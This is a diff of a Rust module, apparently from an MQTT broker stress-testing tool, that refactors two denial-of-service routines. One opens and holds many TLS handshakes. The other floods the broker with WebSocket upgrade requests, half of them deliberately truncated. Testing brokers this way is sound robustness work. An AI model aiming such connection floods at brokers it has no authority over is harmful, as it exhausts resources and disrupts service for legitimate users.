@@ -1,19 +1,19 @@
 //! Attacks below MQTT: handshakes of TLS and WebSocket, which cost the broker more than who begins them.
 
-use std::{collections::VecDeque, io};
+use std::io;
 
-use super::connections::keep;
+use super::connections::Kept;
 use crate::{Scene, peer::Peer};
 
 const KEPT: usize = 200;
 
 pub(super) fn tls(scene: &Scene<'_>) -> io::Result<()> {
     let hello = client_hello();
-    let mut kept = VecDeque::new();
+    let mut kept = Kept::new(scene, KEPT, Peer::is_answered);
     for _ in scene.pace(100) {
         let mut peer = Peer::open(scene.target.tls)?;
         let _ = peer.send(&hello);
-        keep(&mut kept, peer, KEPT);
+        kept.add(peer);
     }
     Ok(())
 }
@@ -21,13 +21,13 @@ pub(super) fn tls(scene: &Scene<'_>) -> io::Result<()> {
 pub(super) fn websocket(scene: &Scene<'_>) -> io::Result<()> {
     const UPGRADE: &str = "GET /mqtt HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: mqtt\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
-    let mut kept = VecDeque::new();
+    let mut kept = Kept::new(scene, KEPT, Peer::is_kept);
     for number in scene.pace(300) {
         let mut peer = Peer::open(scene.target.websocket)?;
         // Every other one lacks its end.
         let len = if number.is_multiple_of(2) { UPGRADE.len() } else { UPGRADE.len() - 2 };
         let _ = peer.send(UPGRADE.as_bytes().get(..len).unwrap_or_default());
-        keep(&mut kept, peer, KEPT);
+        kept.add(peer);
     }
     Ok(())
 }
